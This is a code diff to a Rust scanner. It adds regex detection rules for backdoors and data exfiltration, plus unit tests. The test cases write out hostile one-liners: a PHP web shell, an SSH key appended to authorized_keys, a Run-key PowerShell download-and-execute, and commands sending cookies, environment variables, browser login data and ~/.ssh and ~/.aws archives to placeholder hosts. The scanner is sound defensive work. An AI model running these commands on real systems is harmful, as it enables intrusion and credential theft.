@@ -227,6 +227,52 @@ const SPECS: &[Spec] = &[
         ],
     ),
     (
+        "code.backdoor",
+        0.9,
+        r"(?-u:\b)(?:system|exec|shell_exec|passthru|popen|proc_open|assert|eval)\s*\(\s*\$_(?:request|get|post|cookie)\s*\[|runtime\.getruntime\s*\(\s*\)\s*\.\s*exec\s*\(\s*request\.getparameter",
+        &["$_request", "$_get", "$_post", "$_cookie", "getruntime"],
+    ),
+    (
+        "code.backdoor",
+        0.85,
+        r"(?-u:\b)(?:echo|printf)\s+(?:-\w+\s+)?[\x22\x27]?(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\S+)\s+\S+(?-u:[^\n>]){0,200}>>?\s*(?:~|\$home|/root|/home/\w+)/\.ssh/authorized_keys|(?-u:\b)reg(?:\.exe)?\s+add\s+hk(?:cu|lm)\\software\\microsoft\\windows\\currentversion\\run(?:once)?(?-u:\b)(?-u:[^\n]){0,200}(?:powershell|iex|iwr|http|cmd\s+/c|mshta|rundll32)",
+        &["authorized_keys", "currentversion\\run"],
+    ),
+    (
+        "code.exfiltration",
+        0.85,
+        r"(?:fetch|sendbeacon|\.src\s*=|\.open\s*\(|axios|\$\.(?:get|post)|location(?:\.href)?\s*=)(?-u:[^\n;]){0,200}document\.cookie|document\.cookie(?-u:[^\n;]){0,120}(?:fetch|sendbeacon|new\s+image|xmlhttprequest)",
+        &["document.cookie"],
+    ),
+    (
+        "code.exfiltration",
+        0.85,
+        r"(?:https?[\x22\x27)\]]*\.(?:get|request)|fetch|axios|requests\.post|curl)(?-u:[^\n]){0,200}json\.stringify\s*\(\s*process\.env\s*\)|json\.stringify\s*\(\s*process\.env\s*\)(?-u:[^\n]){0,200}(?:https?://|fetch|request)",
+        &["process.env"],
+    ),
+    (
+        "code.exfiltration",
+        0.85,
+        r"(?:google-chrome|chromium|microsoft/edge|bravesoftware)(?-u:[^\n\x22']){0,60}/(?:login data|cookies|web data)(?-u:\b)(?-u:[^\n]){0,300}(?:https?://|requests\.post|curl|invoke-webrequest)|(?:curl|wget)(?-u:\b)(?-u:[^\n]){0,200}(?:google-chrome|chromium)(?-u:[^\n]){0,60}/login data",
+        &["login data", "cookies", "web data"],
+    ),
+    (
+        "code.exfiltration",
+        0.85,
+        r"(?-u:\b)(?:tar|zip|7z)(?-u:\b)(?-u:[^\n|]){0,120}(?:\.ssh|\.aws|\.gnupg|\.kube|\.config/gcloud|\.password-store)(?-u:[^\n|]){0,120}\|\s*(?:curl|nc|wget)(?-u:\b)|(?:\*\.kdbx|\*\.pem|id_rsa)(?-u:[^\n]){0,200}(?:invoke-webrequest|iwr|curl)(?-u:[^\n]){0,80}-(?:method\s+post|infile|x\s+post|-data-binary|f\s)",
+        &[
+            ".ssh",
+            ".aws",
+            ".gnupg",
+            ".kube",
+            "gcloud",
+            ".password-store",
+            ".kdbx",
+            ".pem",
+            "id_rsa",
+        ],
+    ),
+    (
         "code.obfuscated_js",
         0.85,
         r"(?-u:\b)eval\s*\(\s*(?:window\.)?(?:atob|unescape|decodeuricomponent|string\.fromcharcode|function|escape|buffer\.from)\s*\(",
@@ -382,6 +428,53 @@ mod tests {
             .collect();
         v.dedup();
         v
+    }
+
+    #[test]
+    fn backdoors_and_exfiltration() {
+        for (text, want) in [
+            ("<?php system($_REQUEST['cmd']); ?>", "code.backdoor"),
+            (
+                "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
+                "code.backdoor",
+            ),
+            (
+                "echo 'ssh-ed25519 AAAA helpdesk' >> ~/.ssh/authorized_keys",
+                "code.backdoor",
+            ),
+            (
+                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v U /d \"powershell -w hidden -c iex(iwr -useb https://x.top/r.ps1)\" /f",
+                "code.backdoor",
+            ),
+            (
+                "<script>new Image().src='https://c.example/c?d='+document.cookie</script>",
+                "code.exfiltration",
+            ),
+            (
+                "node -e \"require('https').get('https://x.example/?e='+Buffer.from(JSON.stringify(process.env)).toString('base64'))\"",
+                "code.exfiltration",
+            ),
+            (
+                "curl -F \"f=@$HOME/.config/google-chrome/Default/Login Data\" https://box.example/up",
+                "code.exfiltration",
+            ),
+            (
+                "tar czf - ~/.ssh ~/.aws | curl -s -X POST --data-binary @- https://c.example/u",
+                "code.exfiltration",
+            ),
+        ] {
+            assert!(names(text).contains(&want), "{text}: {:?}", names(text));
+        }
+        for benign in [
+            "cat ~/.ssh/authorized_keys to check which keys can log in",
+            "cat ~/.ssh/id_rsa.pub >> ~/.ssh/authorized_keys",
+            "document.cookie returns the cookies of the current page",
+            "console.log(process.env.NODE_ENV)",
+            "tar czf backup.tgz ~/.ssh && cp backup.tgz /mnt/usb/",
+            "$name = $_POST['name'];",
+        ] {
+            assert!(names(benign).is_empty(), "{benign}: {:?}", names(benign));
+        }
     }
 
     #[test]
